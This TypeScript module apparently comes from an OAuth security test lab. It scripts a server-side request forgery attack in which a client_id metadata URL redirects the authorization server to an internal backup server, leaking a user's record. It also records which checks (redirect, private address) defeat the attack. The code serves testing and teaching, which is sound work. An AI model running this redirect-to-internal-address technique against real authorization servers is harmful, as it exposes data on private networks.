import { textResponse } from '../../../protocol/http/message.js'
import { attack, type Defence } from '../model.js'
import { codeRequest } from '../moves.js'

const REDIRECT: Defence = {
  check: 'redirect',
  rule: 'draft-ietf-oauth-client-id-metadata-document-02 §5',
}
const ADDRESS: Defence = {
  check: 'address',
  rule: 'draft-ietf-oauth-client-id-metadata-document-02 §8.6',
}

/** The path where the document of the attacker's client should be. A redirect is there. */
const DOCUMENT = '/client.json'

/** A document of a client that makes the authorization server read a server that only it reaches. */
export const innerFetch = attack({
  name: 'inner-fetch',
  title: 'a client_id that makes the server read an address inside its network',
  rule: 'draft-ietf-oauth-client-id-metadata-document-02 §8.6',
  weak: ['fetch-anything'],
  opened: { 'fetch-anything': { stolen: true } },
  starts: [
    'A client_id may be the address of a document, which the authorization server fetches for anyone who asks.',
    'In its network is a server with backups, which has no login because only machines there reach it.',
    'The attacker knows its name, and has a server of their own (A1 in RFC 9700 §3).',
  ],
  steals: 'a record of alice',
  defences: [REDIRECT, ADDRESS],
  wouldNotHelp: [
    'TLS: the attacker’s address has a good certificate, and the inner server needs none',
    'the rules of the document: it is fetched before anybody can read it',
    'a check of the name alone: a name says nothing about the address behind it',
  ],
  noWindow: 'alice takes no part in it',
  innerServer: true,
  running: { never: 'it needs a server in the network of the lab that nobody else reaches' },
  story: {
    authorization_request:
      'The attacker names an address as client_id: first that of the inner server, and then one of their own.',
    document_request:
      'The server fetches the document. The answer of the attacker is a redirect into the network of the server.',
    inner_request:
      'The inner server takes the request for one of its own network, and the error of step 1 quotes its answer.',
  },
  lanes: {
    authorization_request: [
      'attacker',
      'authorization_server',
      'GET /authorization',
      'draft-ietf-oauth-client-id-metadata-document-02 §5',
    ],
    document_request: [
      'authorization_server',
      'attacker',
      `GET ${DOCUMENT}`,
      'draft-ietf-oauth-client-id-metadata-document-02 §5',
    ],
    inner_request: [
      'authorization_server',
      'resource_server',
      'GET /records/alice',
      'draft-ietf-oauth-client-id-metadata-document-02 §8.6',
    ],
  },
  async *run(scene) {
    const { attacker, catcher, site, inner, step } = scene
    const { url: address, hits } = inner!
    /** Opens an authorization request whose client_id is an address. */
    const ask = (clientId: string) => attacker.open(codeRequest(scene, clientId, catcher.address).url)
    const named = await ask(address.replace('http:', 'https:'))
    const refused = (await scene.refusal(named))?.check === ADDRESS.check
    const call = refused ? 'its address is private, and is not called' : 'it is called, and speaks no TLS'
    const note = `client_id has the name of the inner server: ${call}`
    yield step('authorization_request', { exchange: named, note, repeats: true })

    const url = `${site.url}${DOCUMENT}`
    site.serve(DOCUMENT, () => textResponse(302, '', [['location', address]]))
    const exchange = await ask(url)
    yield step('authorization_request', { exchange, note: 'client_id is an address of the attacker' })
    if (site.visits.length === 0) return exchange
    const followed = hits() > 0
    const onward = followed ? 'the server follows it' : 'the server does not follow it'
    yield step('document_request', { url, note: `the answer is a redirect to ${address}; ${onward}` })
    if (!followed) return exchange
    const served = `the inner server has answered ${hits()} request: it was this one`
    yield step('inner_request', { url: address, note: served })
    return undefined
  },
})
